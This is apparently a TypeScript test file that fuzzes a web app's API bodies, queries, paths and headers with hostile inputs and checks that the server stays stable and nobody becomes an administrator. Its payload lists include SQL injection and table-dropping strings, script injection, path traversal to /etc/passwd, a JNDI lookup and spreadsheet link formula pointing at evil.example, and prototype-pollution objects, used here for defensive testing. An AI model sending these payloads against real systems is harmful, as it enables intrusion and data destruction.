import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { uuidv7 } from 'uuidv7';
import * as z from 'zod/mini';
import { ENDPOINTS } from '#shared/contract/endpoints.ts';
import type { Endpoint } from '#shared/contract/endpoint.ts';
import { isDeep, scaled } from '#shared/testing/scaled.ts';
import { signUpAdmin, type TestUser } from '#server/testing/admins.ts';
import { createTestApp, TEST_ORIGIN, type TestApp } from '#server/testing/test-app.ts';
import type { TestResponse, TestClient } from '#server/testing/test-client.ts';

let app: TestApp;
let user: TestClient & { email: string };
// The administrator's requests may change settings, so they go to their own installation.
let adminApp: TestApp;
let admin: TestUser;
beforeAll(async () => {
  [app, adminApp] = await Promise.all([createTestApp(), createTestApp()]);
  user = await app.signUp();
  admin = await signUpAdmin(adminApp);
});
afterAll(async () => {
  await app.close();
  await adminApp.close();
});

/** Values as they appear in a JSON body. */
const HOSTILE_JSON = [
  String.raw`"\u0000"`,
  String.raw`"a\u0000b"`,
  String.raw`"\ud800"`,
  String.raw`"\udc00\ud800"`,
  String.raw`"\u202e\u200b\ufeff"`,
  String.raw`"a\r\nBcc: b@example.org"`,
  `"${'x'.repeat(60_000)}"`,
  `"${'🦄'.repeat(100)}"`,
  `${'['.repeat(10_000)}${']'.repeat(10_000)}`,
  `${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}`,
  '{"__proto__":{"isAdmin":true}}',
  '{"constructor":{"prototype":{"isAdmin":true}}}',
  '{"toString":1,"valueOf":1,"length":-1}',
  '[]',
  '{}',
  'null',
  'true',
  'false',
  '""',
  '0',
  '-0',
  '1e309',
  '-1e309',
  '1e-7',
  '5e-324',
  '0.1000000000000000055511151231257827',
  '9007199254740993',
  '123456789012345678901234567890',
  '"NaN"',
  '"Infinity"',
  '"25.50"',
  '"2026-02-30"',
  '"0000-00-00"',
  '"9999-12-31"',
  '"+010000-01-01"',
  '"2026-11-20T00:00:00Z"',
  `"' OR 1=1--"`,
  `"'; drop table transactions; --"`,
  '"=HYPERLINK(\\"https://evil.example\\")"',
  '"<script>alert(1)</script>"',
  '"../../etc/passwd"',
  '"${jndi:ldap://evil.example}"',
  '"%00%ff"',
];

const HOSTILE_TEXT = [
  '%00',
  '%E0%A4%A',
  '%FF%FE',
  '%ED%A0%80',
  '%C0%AE%C0%AE%2F',
  'NaN',
  'Infinity',
  '-1',
  '1e309',
  '9007199254740993',
  '0x10',
  '2026-02-30',
  '0000-00-00',
  '9999-12-31',
  "'%20OR%201=1--",
  '%27;drop%20table%20transactions',
  '..%2f..%2fetc%2fpasswd',
  '__proto__',
  'constructor',
  '[object%20Object]',
  'x'.repeat(5_000),
  '',
];

/** A valid value for each field, so that only one field is broken. */
const VALID: Record<string, unknown> = {
  email: 'nobody@example.org',
  password: 'plain-horse-battery',
  termsAccepted: true,
  description: 'Coffee',
  amount: 1,
  date: '2026-11-20',
  accepted: true,
  newEmail: 'new@example.org',
  newPassword: 'plain-horse-battery',
  token: 'nothing',
};

/** A field gets every fourth value, and its neighbours get the others. `npm run test:deep` sends all to each. */
const STEP = isDeep() ? 1 : 4;

function fieldsOf(schema: z.ZodMiniType | undefined): string[] {
  return schema === undefined ? [] : Object.keys(z.toJSONSchema(schema, { io: 'input' }).properties ?? {});
}

function bodyWith(endpoint: Endpoint, field: string, json: string): string {
  const others = fieldsOf(endpoint.body).filter((name) => name in VALID && name !== field);
  const parts = others.map((name) => `${JSON.stringify(name)}:${JSON.stringify(VALID[name])}`);
  return `{${[...parts, `${JSON.stringify(field)}:${json}`].join(',')}}`;
}

function expectSafe(response: TestResponse, sent: string): void {
  const message = `The response to ${sent.slice(0, 200)} was ${JSON.stringify(response.body).slice(0, 300)}`;
  expect(response.status, message).toBeLessThan(500);
  if (response.status < 400) return;
  expect(Object.keys(response.body).toSorted(), message).toEqual(
    response.body.details ? ['code', 'details', 'error', 'requestId'] : ['code', 'error', 'requestId'],
  );
  expect(response.body.error, message).not.toMatch(/sqlite|postgres|syntax|\bat \w|\.ts|node_modules/i);
}

// Requests to /api/auth/ may end the sender's session, so send them without one.
const isSessionless = (endpoint: Endpoint) => endpoint.path.startsWith('/api/auth/');
const sender = (endpoint: Endpoint) => {
  if (endpoint.access === 'admin') return admin;
  return isSessionless(endpoint) ? app.visitor() : user;
};

const withBody = ENDPOINTS.filter((endpoint) => endpoint.body !== undefined);
const withQuery = ENDPOINTS.filter((endpoint) => endpoint.query !== undefined);
const withId = ENDPOINTS.filter((endpoint) => endpoint.path.includes(':id'));
const nameEach = (endpoints: Endpoint[]) =>
  endpoints.map((endpoint) => [`${endpoint.method} ${endpoint.path}`, endpoint] as const);

describe('hostile input in a body never breaks the server', () => {
  it.each(nameEach(withBody))('%s', async (_, endpoint) => {
    const path = endpoint.path.replace(':id', uuidv7());
    const bodies = [...HOSTILE_JSON, JSON.stringify('x'.repeat(1_000_000))];
    const fields = [...fieldsOf(endpoint.body), '__proto__', 'constructor'];
    for (const [at, field] of fields.entries()) {
      const sent = HOSTILE_JSON.filter((_json, index) => index % STEP === at % STEP);
      bodies.push(...sent.map((json) => bodyWith(endpoint, field, json)));
    }
    // With two equal keys the last one counts, as in every JSON parser.
    bodies.push('{"email":"a@example.org","email":"b"}', '{"amount":1,"amount":-1}');
    for (const body of bodies) {
      const headers = { 'content-type': 'application/json' };
      expectSafe(await sender(endpoint).send(endpoint.method, path, body, headers), body);
    }
  });

  it.each(nameEach(withBody))('%s, with any JSON in one field', async (_, endpoint) => {
    const path = endpoint.path.replace(':id', uuidv7());
    const property = fc.asyncProperty(
      fc.constantFrom(...fieldsOf(endpoint.body)),
      fc.jsonValue({ noUnicodeString: false }),
      async (field, value) => {
        const body = bodyWith(endpoint, field, JSON.stringify(value));
        const headers = { 'content-type': 'application/json' };
        expectSafe(await sender(endpoint).send(endpoint.method, path, body, headers), body);
      },
    );
    await fc.assert(property, { numRuns: scaled(15) });
  });
});

describe('hostile input in a query never breaks the server', () => {
  it.each(nameEach(withQuery))('%s', async (_, endpoint) => {
    for (const field of [...fieldsOf(endpoint.query), '__proto__']) {
      for (const text of HOSTILE_TEXT) {
        for (const query of [`${field}=${text}`, `from=2026-11-01&to=2026-11-30&${field}=${text}`, text]) {
          expectSafe(await sender(endpoint).get(`${endpoint.path}?${query}`), query);
        }
      }
    }
  });
});

describe('hostile input in a path never breaks the server', () => {
  it.each(nameEach(withId))('%s', async (_, endpoint) => {
    for (const text of HOSTILE_TEXT) {
      const path = `${TEST_ORIGIN}${endpoint.path.replace(':id', text)}`;
      const body = endpoint.body && { amount: 1, isAdmin: true, isSuspended: true };
      const response = await sender(endpoint).send(endpoint.method, path, body);
      expectSafe(response, path);
      // Without an id, the path may belong to another endpoint.
      if (text !== '') expect([400, 404, 405], path).toContain(response.status);
    }
  });
});

describe('hostile input in headers never breaks the server', () => {
  it.each([
    ['cookie', 'saldo.session_token=%00.%00'],
    ['cookie', 'saldo.session_token=%E0%A4%A.x'],
    ['cookie', `saldo.session_token=${'x'.repeat(10_000)}.${'y'.repeat(10_000)}`],
    ['cookie', '; ; =; __proto__=1; saldo.session_token'],
    ['cookie', 'a=b; '.repeat(2_000)],
    ['accept-encoding', 'x-unknown;q=NaN, identity;q=1e309'],
    ['if-none-match', '*, W/"x", "'],
    ['user-agent', 'x'.repeat(8_000)],
    ['x-forwarded-for', '1.2.3.4, '.repeat(1_000)],
    ['content-length', '-1'],
  ])('%s', async (name, value) => {
    for (const path of ['/api/v1/me', '/api/v1/summary', '/healthz']) {
      expectSafe(await app.visitor().get(path, { [name]: value }), value);
    }
    expectSafe(await app.visitor().send('POST', '/api/auth/sign-out', undefined, { [name]: value }), value);
  });
});

describe('after all hostile input', () => {
  it('every stored transaction is valid, and nobody has become an administrator', async () => {
    const rows = await app.database.read.selectFrom('transactions').selectAll().execute();
    for (const row of rows) {
      expect(Number.isSafeInteger(row.amount_minor) && row.amount_minor > 0).toBe(true);
      expect(row.date).toMatch(/^\d{4}-\d{2}-\d{2}$/);
      expect(row.description.isWellFormed() && row.description.length > 0).toBe(true);
    }
    const admins = await app.database.read
      .selectFrom('profiles')
      .selectAll()
      .where('is_admin', '=', 1)
      .execute();
    expect(admins).toEqual([]);
    const others = await adminApp.database.read
      .selectFrom('profiles')
      .select('user_id')
      .where('is_admin', '=', 1)
      .execute();
    expect(others).toEqual([{ user_id: admin.uid }]);
    expect((await admin.get('/api/v1/admin/settings')).status).toBe(200);
    expect(({} as { isAdmin?: unknown }).isAdmin).toBeUndefined();
    expect((await user.get('/api/v1/me')).status).toBe(200);
  });
});
